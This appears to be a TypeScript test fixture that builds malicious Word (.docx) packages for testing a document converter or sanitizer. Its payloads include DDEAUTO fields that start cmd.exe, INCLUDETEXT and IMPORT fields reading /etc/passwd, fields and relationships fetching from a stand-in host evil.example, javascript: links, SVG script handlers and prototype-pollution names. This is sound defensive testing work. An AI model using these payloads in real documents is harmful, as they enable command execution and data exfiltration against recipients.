import {
  heading,
  packed,
  paragraph,
  partRelation,
  run,
  type WordParts,
  wordParts,
  XML,
} from "./build";

const EVIL = "https://evil.example/";
const OUT = ' TargetMode="External"';
const words = paragraph("Words.");
const body = (inner: string, ...links: string[]) =>
  wordParts(heading(1, "One") + words + inner, ...links);
const whole = (parts: WordParts) => () => packed(parts);
/** A field as Word writes it: what it does, and the words that it shows. */
const field = (code: string) =>
  paragraph(
    `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> ${code} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${run("shown")}<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
  );
const simple = (code: string) =>
  `<w:p><w:fldSimple w:instr=" ${code} "><w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p>`;
const quoted = (text: string) => text.replaceAll('"', "&quot;");

/** Fields that fetch, read or start something when Word works them out. */
const FIELDS = [
  `DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"`,
  `DDE excel "${EVIL}x.xls" r1c1`,
  `INCLUDETEXT "${EVIL}x.docx"`,
  `INCLUDETEXT "/etc/passwd"`,
  `INCLUDEPICTURE "${EVIL}x.png" \\d`,
  `IMPORT "file:///etc/passwd"`,
  `LINK Excel.Sheet.8 "${EVIL}x.xls" "" \\a \\p`,
  `MACROBUTTON AutoOpen press`,
  `HYPERLINK "javascript:alert(1)" \\l "x" \\o "<script>"`,
  `HYPERLINK \\l "__proto__"`,
  `QUOTE 60 115 99 114 105 112 116 62`,
  `SET x "{alert(1)}"`,
  `= 6*7*1009`,
  `IF 1 = 1 "{6*7*1009}" ""`,
  `DATABASE \\d "${EVIL}x.mdb" \\s "select * from x"`,
  `FILLIN "x" \\d "${EVIL}"`,
  `RD "${EVIL}x.docx"`,
  `AUTOTEXT __proto__`,
  `DOCPROPERTY constructor`,
  `EQ \\o(<,script>)`,
];

/** Parts of a package that another program would open. */
const PARTS: [string, string, string | Uint8Array][] = [
  [
    "a custom part of XML",
    "customXml/item1.xml",
    `${XML}<x>{6*7*1009}<script>alert(1)</script></x>`,
  ],
  ["a ribbon that runs", "customUI/customUI.xml", `${XML}<customUI onLoad="alert"/>`],
  [
    "a control of Windows",
    "word/activeX/activeX1.xml",
    `${XML}<ax:ocx xmlns:ax="x" ax:classid="{x}"/>`,
  ],
  ["a control's bytes", "word/activeX/activeX1.bin", new Uint8Array([1, 2, 3])],
  [
    "a workbook inside",
    "word/embeddings/Microsoft_Excel_Sheet1.xlsx",
    new Uint8Array([80, 75, 3, 4]),
  ],
  ["a package in the package", "word/embeddings/package.docm", packed(wordParts(words))],
  ["a page of HTML", "word/page.html", "<script>alert(1)</script>"],
  ["a page of MHTML", "word/afchunk.mht", "MIME-Version: 1.0\n\n<script>alert(1)</script>"],
  ["a rich text", "word/afchunk.rtf", "{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd}}}"],
  ["a font", "word/fonts/font1.odttf", new Uint8Array(100)],
  ["settings of a printer", "word/printerSettings/printerSettings1.bin", new Uint8Array(10)],
  ["a drawing with a script", "word/media/image2.svg", `<svg onload="alert(1)"/>`],
  ["a metafile", "word/media/image3.wmf", new Uint8Array([0xd7, 0xcd, 0xc6, 0x9a])],
  [
    "comments of people",
    "word/comments.xml",
    `${XML}<w:comments xmlns:w="x"><w:comment w:id="0"/></w:comments>`,
  ],
  ["a script of a package", "_xmlsignatures/sig1.xml", `${XML}<Signature/>`],
];

/** Relations that lead out of the document. */
const RELATIONS: [string, string][] = [
  ["a frame", "frame"],
  ["a document below it", "subDocument"],
  ["a source of letters", "mailMergeSource"],
  ["an object elsewhere", "oleObject"],
  ["a page elsewhere", "aFChunk"],
  ["a package elsewhere", "package"],
  ["a control elsewhere", "control"],
  ["a video elsewhere", "video"],
  ["a transform", "transform"],
  ["a stylesheet elsewhere", "styles"],
  ["numbers elsewhere", "numbering"],
  ["notes elsewhere", "footnotes"],
];

/** Documents that reach for more than their own words, as those who send them write them. */
export const REACHING_FILES: [string, () => Uint8Array][] = [
  ...FIELDS.map((code): [string, () => Uint8Array] => [
    `a field ${code.slice(0, 30)}`,
    whole(body(field(quoted(code).replaceAll("<", "&lt;")))),
  ]),
  ...FIELDS.slice(0, 9).map((code): [string, () => Uint8Array] => [
    `a simple field ${code.slice(0, 30)}`,
    whole(body(simple(quoted(code).replaceAll("<", "&lt;")))),
  ]),
  ...PARTS.map(([what, name, part]): [string, () => Uint8Array] => [
    what,
    whole({ ...body(""), [name]: part }),
  ]),
  ...RELATIONS.map(([what, type]): [string, () => Uint8Array] => [
    what,
    whole(body("", partRelation("rId70", type, `${EVIL}x`, OUT))),
  ]),
  [
    "a link with a script",
    whole(
      body(
        `<w:p><w:hyperlink r:id="rId7" w:tooltip="&lt;script&gt;"><w:r><w:t>a link</w:t></w:r></w:hyperlink></w:p>`,
        partRelation("rId7", "hyperlink", "javascript:alert(1)", OUT),
      ),
    ),
  ],
  [
    "a link with data",
    whole(
      body(
        `<w:p><w:hyperlink r:id="rId7"><w:r><w:t>a link</w:t></w:r></w:hyperlink></w:p>`,
        partRelation(
          "rId7",
          "hyperlink",
          "data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;",
          OUT,
        ),
      ),
    ),
  ],
  [
    "a smart tag",
    whole(
      body(
        `<w:p><w:smartTag w:uri="urn:x" w:element="__proto__"><w:r><w:t>tagged</w:t></w:r></w:smartTag></w:p>`,
      ),
    ),
  ],
  [
    "an object of another program that is linked",
    whole(
      body(
        `<w:p><w:r><w:object><v:shape><v:imagedata r:href="rId7"/></v:shape><o:OLEObject Type="Link" ProgID="Package" r:id="rId7"/></w:object></w:r></w:p>`,
        partRelation("rId7", "oleObject", "file:///c:/windows/calc.exe", OUT),
      ),
    ),
  ],
  [
    "a picture of VML elsewhere",
    whole(
      body(
        `<w:p><w:r><w:pict><v:shape style="behavior:url(#default#x)" href="javascript:alert(1)"><v:imagedata r:id="rId7" o:href="${EVIL}x.png"/></v:shape></w:pict></w:r></w:p>`,
        partRelation("rId7", "image", `${EVIL}x.png`, OUT),
      ),
    ),
  ],
  [
    "a choice of contents",
    whole(
      body(
        `<w:p><w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:t>one</w:t></mc:Choice><mc:Fallback><w:t>{6*7*1009}</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>`,
      ),
    ),
  ],
  [
    "a control that is bound to other data",
    whole(
      body(
        `<w:sdt><w:sdtPr><w:dataBinding w:xpath="/x" w:storeItemID="{x}"/></w:sdtPr><w:sdtContent>${paragraph("bound")}</w:sdtContent></w:sdt>`,
      ),
    ),
  ],
  [
    "bookmarks of the language",
    whole(
      body(
        `<w:p><w:bookmarkStart w:id="1" w:name="__proto__"/><w:r><w:t>marked</w:t></w:r><w:bookmarkEnd w:id="1"/><w:hyperlink w:anchor="constructor"><w:r><w:t>there</w:t></w:r></w:hyperlink></w:p>`,
      ),
    ),
  ],
  [
    "words that are hidden, deleted and added",
    whole(
      body(
        `<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>{6*7*1009}</w:t></w:r><w:del w:id="1"><w:r><w:delText>&lt;script&gt;</w:delText></w:r></w:del><w:ins w:id="2"><w:r><w:t>added</w:t></w:r></w:ins></w:p>`,
      ),
    ),
  ],
  [
    "a symbol of a font",
    whole(
      body(`<w:p><w:r><w:sym w:font="Wingdings" w:char="F03C"/><w:t>script&gt;</w:t></w:r></w:p>`),
    ),
  ],
  [
    "code in runs of one letter",
    whole(
      body(
        `<w:p>${[..."{alert(1)}<script>"].map((letter) => run(letter === "<" ? "&lt;" : letter === ">" ? "&gt;" : letter)).join("")}</w:p>`,
      ),
    ),
  ],
  [
    "an import as a paragraph",
    whole(body(paragraph(`import x from "fs"`) + paragraph("export const y = {1}"))),
  ],
  [
    "front matter as paragraphs",
    whole(body(paragraph("---js") + paragraph("{ a: 1 }") + paragraph("---"))),
  ],
  ["a part as words", whole(body(paragraph(`&lt;Callout kind={1} onClick="alert(1)" /&gt;`)))],
  ["a heading of a part", whole(body(heading(2, "&lt;Scenario id={1}&gt;")))],
];
